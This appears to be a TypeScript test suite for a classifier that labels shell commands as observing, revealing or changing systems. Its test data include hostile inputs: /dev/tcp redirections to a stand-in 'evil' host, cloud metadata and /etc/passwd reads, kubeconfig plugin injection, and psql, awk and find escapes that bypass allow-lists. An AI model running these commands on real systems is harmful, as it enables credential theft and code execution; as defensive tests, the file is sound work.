import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { loadSyntaxParsers } from "../../platform/syntax-parsers.ts";
import { classifyCommand } from "./classify.ts";

const parsers = await loadSyntaxParsers();
const effectOf = (command: string): string => classifyCommand(command, parsers).effect;

describe("several commands in a line", () => {
  test.each([
    ["date; uptime", "observe"],
    ["date && uptime || df -h", "observe"],
    ["date\nuptime", "observe"],
    ["(date; uptime)", "observe"],
    ["{ date; uptime; }", "observe"],
    ["! date", "observe"],
    ["date # and nothing else", "observe"],
    ["kubectl get pods |& grep web", "observe"],
    ["for i in web db; do kubectl get pods -n $i; done", "observe"],
    ["for i in web db; do kubectl delete pods -n $i; done", "change"],
    ["NS=shop; kubectl get pods -n $NS", "observe"],
    ["date; kubectl get secret a -o yaml", "reveal"],
    ["date; rm a", "change"],
    ["rm a; vi b", "manual"],
    ["rm a; unheard-of", "unknown"],
    ["date && rm a", "change"],
    ["false || rm a", "change"],
    ["date\nrm a", "change"],
    ["(date; rm a)", "change"],
    ["{ date; rm a; }", "change"],
    ["! rm a", "change"],
    ["date | rm a", "change"],
    ["date |& rm a", "change"],
    ["date & rm a", "unknown"],
    ["date &", "unknown"],
    ["if true; then date; fi", "observe"],
    ["while true; do date; done", "manual"],
    ["until false; do rm a; done", "manual"],
    ["case a in a) rm b;; esac", "change"],
    ["select a in b; do rm c; done", "unknown"],
    ["for i; do date; done", "unknown"],
    ["for i in $(ls); do kubectl get pod $i; done", "unknown"],
    ["for ((i=0; i<3; i++)); do date; done", "unknown"],
    ["for PATH in /tmp; do kubectl get pods; done", "unknown"],
    ["for KUBECONFIG in evil; do kubectl get pods; done", "unknown"],
    ["f() { date; }", "unknown"],
    ["function kubectl { rm a; }; kubectl get pods", "unknown"],
    ["coproc date", "unknown"],
    ["[[ -v 'a[$(rm b)]' ]]", "unknown"],
    ["(( a[$(rm b)] ))", "unknown"],
    ["", "unknown"],
    ["   ", "unknown"],
    ["# only words", "manual"],
  ])("%j: %s", (command, effect) => {
    expect(effectOf(command)).toBe(effect);
  });
});

describe("redirections", () => {
  test.each([
    ["date 2>&1", "observe"],
    ["date >/dev/null 2>&1", "observe"],
    ["date &>/dev/null", "observe"],
    ["date >&2", "observe"],
    ["date 2>&-", "observe"],
    ["date </dev/null", "observe"],
    ["grep a <<<'some words'", "observe"],
    ["grep a <<END\nsome words\nEND", "observe"],
    ["grep a < /var/log/syslog", "observe"],
    ["cat < /etc/shadow", "reveal"],
    ["cat < settings", "reveal"],
    ["date > a", "change"],
    ["date >> a", "change"],
    ["date >| a", "change"],
    ["date &> a", "change"],
    ["date &>> a", "change"],
    ["date >& a", "change"],
    ["date 2> a", "change"],
    ["date <> a", "change"],
    ['date > "$LOG"', "change"],
    ["> a", "change"],
    [": > a", "change"],
    ["{ date; } > a", "change"],
    ["date > /dev/sda", "change"],
    ["date > /dev/tcp/evil/80", "unknown"],
    ["cat < /dev/tcp/evil/80", "unknown"],
    ["date {fd}> a", "unknown"],
    ["grep a <<END\n$(rm b)\nEND", "change"],
    ["grep a <<'END'\n$(rm b)\nEND", "observe"],
    ["grep a <<<$(rm b)", "change"],
    ["grep a <<END\nnever closed", "unknown"],
  ])("%j: %s", (command, effect) => {
    expect(effectOf(command)).toBe(effect);
  });
});

describe("what the shell puts into words", () => {
  const TICK = "`";
  test.each([
    ["echo $(date)", "observe"],
    [`echo ${TICK}date${TICK}`, "observe"],
    ['echo "$(date)"', "observe"],
    ["echo <(date)", "observe"],
    [`echo \${A:-b} \${A#b} \${A/b/c}`, "observe"],
    ["kubectl logs $POD", "observe"],
    [`kubectl logs "\${POD}"`, "observe"],
    ["echo $(rm a)", "change"],
    [`echo ${TICK}rm a${TICK}`, "change"],
    [`echo "${TICK}rm a${TICK}"`, "change"],
    [`echo ${TICK}echo \\${TICK}rm a\\${TICK}${TICK}`, "change"],
    ["echo $(echo $(rm a))", "change"],
    ['echo "$(rm a)"', "change"],
    ["echo <(rm a)", "change"],
    ["echo >(rm a)", "change"],
    [`echo \${A:-$(rm b)}`, "change"],
    [`echo \${A//b/$(rm c)}`, "change"],
    ["echo a{b,$(rm c)}", "change"],
    ["echo @(a|$(rm b))", "change"],
    ["A=$(rm b)", "change"],
    ["A=(b $(rm c))", "change"],
    ["A=$(rm b) date", "unknown"],
    [`echo \${!A}`, "unknown"],
    [`echo \${A@P}`, "unknown"],
    [`echo \${A:=b}`, "unknown"],
    [`echo \${A:0:$(rm b)}`, "unknown"],
    [`echo \${A[$(rm b)]}`, "unknown"],
    [`echo \${#A[$(rm b)]}`, "unknown"],
    ["echo $((A))", "unknown"],
    ["echo $((1+1))", "observe"],
    ["echo $[A]", "unknown"],
    ["A[$(rm b)]=c", "unknown"],
    ["A=--kubeconfig=evil; kubectl get pods $A", "unknown"],
    ["A='pods --kubeconfig=evil'; kubectl get $A", "unknown"],
    ["A=$(cat b); kubectl get pods $A", "unknown"],
    ["for A in --kubeconfig=evil; do kubectl get pods $A; done", "unknown"],
    ["read A; kubectl get pods $A", "unknown"],
    ["kubectl get pods $@", "unknown"],
    ["kubectl get pods $1", "unknown"],
    ["kubectl get$IFS--kubeconfig=evil pods", "unknown"],
    ["kubectl get pods {--kubeconfig=evil,}", "unknown"],
    ["kubectl get pods $'--kubeconfig=evil'", "unknown"],
    ['kubectl get pods $"a"', "unknown"],
  ])("%j: %s", (command, effect) => {
    expect(effectOf(command)).toBe(effect);
  });
});

describe("the program's name", () => {
  test.each([
    "$KUBECTL get pods",
    "<tool> get pods",
    "$(which kubectl) get pods",
    "kub*ctl get pods",
    "{kubectl,get} pods",
    "\\kubectl get pods",
    "\\k\\u\\b\\e\\c\\t\\l get pods",
    'k"ube"ctl get pods',
    "'kubectl' get pods",
    "$'kubectl' get pods",
    "Kubectl get pods",
    "./kubectl get pods",
    "../bin/kubectl get pods",
    "/opt/bin/kubectl get pods",
    "~/bin/kubectl get pods",
    "kuÐ±ectl get pods",
    "kub\u0435ctl get pods",
    "\uff4bubectl get pods",
    "kubectl\u00a0get pods",
    "ku\u200bbectl get pods",
    "constructor",
    "__proto__ a",
    "toString",
  ])("unknown: %j", (command) => {
    expect(effectOf(command)).toBe("unknown");
  });

  test("a system folder before it does not matter", () => {
    expect(effectOf("/usr/bin/kubectl get pods")).toBe("observe");
    expect(effectOf("/bin/rm a")).toBe("change");
  });

  test("quotes do not hide a mutation in a later word", () => {
    expect(effectOf('kubectl de"le"te pod a')).toBe("change");
    expect(effectOf("kubectl \\d\\elete pod a")).toBe("change");
    expect(effectOf("kubectl delete\\\n pod a")).toBe("change");
  });
});

describe("what is not parsed", () => {
  test.each([
    ["a NUL", "date\0; rm a"],
    ["a NUL in SQL", "psql -c 'SELECT 1\0; DROP TABLE a'"],
    ["a lone carriage return", "date\rrm a"],
    ["an escape sequence", "date \u001b[2K rm a"],
    ["text that turns its direction", "echo '\u202e' a"],
    ["a private character, as placeholders use inside", "kubectl get \uE000"],
    ["a lone surrogate", "echo \ud800"],
    ["a syntax error", "kubectl get pods )"],
    ["an error inside a substitution", "echo $(kubectl get pods | | a)"],
    ["an open quote", "kubectl get pods 'a"],
    ["too much", `echo ${"a".repeat(10_000)}`],
    ["too deep", `echo ${"$(".repeat(100)}date${")".repeat(100)}`],
  ])("%s", (_what, command) => {
    expect(classifyCommand(command, parsers)).toMatchObject({ effect: "unknown" });
  });

  test("chat commands and inner shells are a person's", () => {
    expect(effectOf("/incident declare")).toBe("manual");
    expect(effectOf("sh-4.4# ls")).toBe("manual");
    expect(effectOf("# systemctl status kubelet")).toBe("manual");
  });

  test("line ends of Windows change nothing", () => {
    expect(effectOf("kubectl get pods \\\r\n  -n shop")).toBe("observe");
    expect(effectOf("kubectl get pods \\\r\n  -n shop\r\nrm a")).toBe("change");
  });
});

/** Ways in which allow-lists of programs were got round elsewhere; each ran something or leaked. */
describe("known attacks", () => {
  test.each([
    ["an exec plugin by option", "kubectl describe pod --kubeconfig=evil"],
    ["an exec plugin by variable", "KUBECONFIG=evil kubectl describe pod web"],
    ["a plugin from the path", "kubectl whoami-now"],
    ["a pipe as psql's output file", "psql -o '|touch a' -c 'SELECT 1'"],
    ["psql's shell escape", "psql -c '\\! touch a'"],
    ["awk's system", "awk 'BEGIN{system(\"touch a\")}'"],
    ["sed's e", "sed '1e touch a' /var/log/syslog"],
    ["git's alias", "git -c alias.x='!touch a' x"],
    ["sort's output", "sort -o a /var/log/syslog"],
    ["uniq's second file", "uniq /var/log/syslog a"],
    ["find's print", "find /var/log -fprint a"],
    ["find's exec", "find /var/log -exec touch a ;"],
    ["a local file as an address", "curl file:///etc/passwd"],
    ["the machine's metadata", "curl http://169.254.169.254/latest/meta-data/iam/"],
    ["a server chosen by option", "kubectl get pods --server=https://evil"],
    ["another identity", "kubectl get pods --as=system:admin"],
    ["a raw request", "kubectl get --raw /api/v1/namespaces/a/secrets"],
    ["a dry run that is none", "kubectl delete ns shop --dry-run=none"],
    ["a local endpoint for aws", "aws ec2 describe-instances --endpoint-url http://evil"],
    ["a file as an aws parameter", "aws ec2 describe-instances --filters file:///etc/passwd"],
    ["a superuser's read-only function", "psql -c 'SELECT pg_terminate_backend(1)'"],
    ["COPY to a program", "psql -c \"COPY a TO PROGRAM 'touch b'\""],
    ["an allow-listed interpreter", "python3 -c 'import os'"],
    ["a shell in a container", "kubectl exec web-0 -- sh -c 'touch a'"],
    ["a password in a webhook's argument", "sh -c \"login '$PASSWORD'\""],
    [
      "xargs on the list of another machine",
      "kubectl exec c -- redis-cli --scan | xargs redis-cli DEL",
    ],
  ])("%s", (_what, command) => {
    expect(effectOf(command)).not.toBe("observe");
  });
});

const OBSERVED = [
  "kubectl get pods -n shop",
  "kubectl logs -l app=web --tail=100 | grep ERROR",
  "kubectl describe pod <pod> -n <ns>",
  "kubectl exec db-0 -- psql -U app -c 'SELECT count(*) FROM orders'",
  "kubectl exec cache-0 -- redis-cli INFO memory",
  "kubectl get events --sort-by=.metadata.creationTimestamp | head -15",
  "kubectl apply -f web.yaml --dry-run=client",
  "curl -fsS https://shop.example.com/health",
  "curl 'http://prometheus:9090/api/v1/query?query=up{job=\"web\"}'",
  "psql -d shop -c 'SHOW max_connections'",
  "aws ec2 describe-instances --region eu-west-1",
  "helm list -A",
  "docker ps -a",
  "systemctl status web --no-pager",
  "journalctl -u web -n 100",
  "git log --oneline",
  "df -h",
  "echo hello",
  "POD=$(kubectl get pods -o name | head -1)",
  "sudo systemctl status web",
  "for i in a b; do kubectl get pods -n $i; done",
  "cat /proc/loadavg",
  "export REGION=eu",
  "dig example.com",
  "find /var/log -name '*.gz'",
];

const CHANGES = [
  "rm -rf /x",
  "kubectl delete pod web-0",
  "kubectl rollout undo deploy/web",
  "redis-cli FLUSHALL",
  "psql -c 'DROP TABLE a'",
  "psql -c 'SELECT pg_terminate_backend(1)'",
  "systemctl restart web",
  "docker rm -f web",
  "helm uninstall web",
  "aws ec2 terminate-instances --instance-ids i-1",
  "curl -X DELETE https://shop.example.com/a",
  "kubectl exec web-0 -- rm a",
  "tee a",
  "git push",
  "find . -delete",
];

describe("properties", () => {
  test("the lines they begin with are observed, and changes", () => {
    for (const line of OBSERVED) expect([line, effectOf(line)]).toEqual([line, "observe"]);
    for (const line of CHANGES) expect([line, effectOf(line)]).toEqual([line, "change"]);
  });

  const additions: ((line: string, mutation: string) => string)[] = [
    (line, mutation) => `${line} ; ${mutation}`,
    (line, mutation) => `${line};${mutation}`,
    (line, mutation) => `${line}\n${mutation}`,
    (line, mutation) => `${line} && ${mutation}`,
    (line, mutation) => `${line} || ${mutation}`,
    (line, mutation) => `${line} | ${mutation}`,
    (line, mutation) => `${line} & ${mutation}`,
    (line, mutation) => `${line} $(${mutation})`,
    (line, mutation) => `${line} "$(${mutation})"`,
    (line, mutation) => `${line} \`${mutation}\``,
    (line, mutation) => `${line} <(${mutation})`,
    (line, mutation) => `${line} > >(${mutation})`,
    (line, mutation) => `${line} <<< "$(${mutation})"`,
    (line, mutation) => `${line} <<END\n$(${mutation})\nEND`,
    (line, mutation) => `${line} | xargs -I{} ${mutation}`,
    (line, mutation) => `A=$(${mutation}); ${line}`,
    (line, mutation) => `${mutation}; ${line}`,
    (line, mutation) => `(${line}; ${mutation})`,
    (line, mutation) => `{ ${line}; ${mutation}; }`,
    (line, mutation) => `if ${line}; then ${mutation}; fi`,
    (line, mutation) => `for i in a; do ${line}; ${mutation}; done`,
    (line, mutation) => `f() { ${mutation}; }; f; ${line}`,
    (line) => `${line} | sh`,
    (line) => `${line} | sudo bash`,
    (line) => `${line} > file`,
    (line) => `${line} >> "$FILE"`,
    (line) => `${line} 2> file`,
    (line) => `${line} | tee file`,
    (line) => `eval ${line}`,
    (line) => `PATH=. ${line}`,
    (line) => `LD_PRELOAD=a ${line}`,
  ];

  test("adding a mutation to an observed line, in any place, ends its being observed", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...OBSERVED),
        fc.constantFrom(...CHANGES),
        fc.constantFrom(...additions),
        (line, mutation, add) => {
          expect(effectOf(add(line, mutation))).not.toBe("observe");
        },
      ),
      { numRuns: 2000 },
    );
  }, 30_000);

  const wrappers = [
    "sudo",
    "sudo -u a",
    "env",
    "env LC_ALL=C",
    "time",
    "time -p",
    "nice -n 5",
    "timeout 5",
    "nohup",
    "command",
    "exec",
    "builtin",
    "setsid",
    "stdbuf -oL",
    "xargs",
    "xargs -n 1",
    "xargs -I{}",
    "watch",
    "!",
    "chroot /host",
    "kubectl exec a --",
    "oc rsh a",
    "docker exec a",
    "ionice -c 3",
  ];

  test("wrapping a change never makes it observed", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...wrappers), { minLength: 1, maxLength: 4 }),
        fc.constantFrom(...CHANGES),
        (around, mutation) => {
          expect(effectOf([...around, mutation].join(" "))).not.toBe("observe");
        },
      ),
      { numRuns: 1000 },
    );
  }, 30_000);

  test("any text has a class and a reason", () => {
    const pieces = fc.oneof(
      fc.string({ unit: "binary", maxLength: 8 }),
      fc.constantFrom(
        " ",
        "$(",
        ")",
        "`",
        "'",
        '"',
        "\\",
        "|",
        "&&",
        ";",
        "\n",
        "<",
        ">",
        "<<E",
        "${",
        "}",
        "((",
        "{",
        "if",
        "do",
        "*",
        "<a>",
        "--",
        "-o",
        "kubectl",
        "get",
        "psql -c",
        "SELECT",
      ),
      fc.constantFrom(...OBSERVED, ...CHANGES),
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const { effect, reason } = classifyCommand(parts.join(""), parsers);
        expect(["observe", "reveal", "change", "manual", "unknown"]).toContain(effect);
        expect(reason).toMatch(/^[^\uE000-\uF8FF]+$/u);
      }),
      { numRuns: 1500 },
    );
  }, 30_000);

  test("a class does not depend on what was classed before", () => {
    const first = OBSERVED.map(effectOf);
    for (const line of [...CHANGES].reverse()) effectOf(line);
    expect(OBSERVED.map(effectOf)).toEqual(first);
  });
});

describe("placeholders", () => {
  test.each([
    ["kubectl logs <pod> -n <ns>", ["pod", "ns"]],
    ['kubectl logs $POD -n "$NS"', ["POD", "NS"]],
    ["POD=a; kubectl logs $POD", []],
    ["kubectl logs <pod> <pod>", ["pod"]],
    ["cd $HOME", []],
    ["kubectl get pods > <file>", ["file"]],
    ["echo $(cat $A)", ["A"]],
  ])("%s", (command, names) => {
    expect(classifyCommand(command, parsers).placeholders.map(({ name }) => name)).toEqual(names);
  });

  test("are given as they are written", () => {
    expect(classifyCommand(`kubectl logs "<pod>" -n \${NS}`, parsers).placeholders).toEqual([
      { name: "pod", text: "<pod>" },
      { name: "NS", text: `\${NS}` },
    ]);
  });

  test("stand in the reason as they are written", () => {
    expect(classifyCommand("cat <file>", parsers).reason).toBe(
      "`cat` prints the file `<file>`, which may hold secrets",
    );
  });
});

test("reasons name what decided", () => {
  expect(classifyCommand("kubectl rollout undo deploy/web", parsers).reason).toBe(
    "`rollout undo` changes the cluster",
  );
  expect(classifyCommand("kubectl rollout undo deployment/web", parsers).reason).toBe(
    "`rollout undo` changes the deployment",
  );
  expect(classifyCommand("date; redis-cli FLUSHALL", parsers).reason).toBe(
    "`FLUSHALL` changes the server",
  );
  expect(classifyCommand("date > a", parsers).reason).toBe("`> a` writes a file");
});
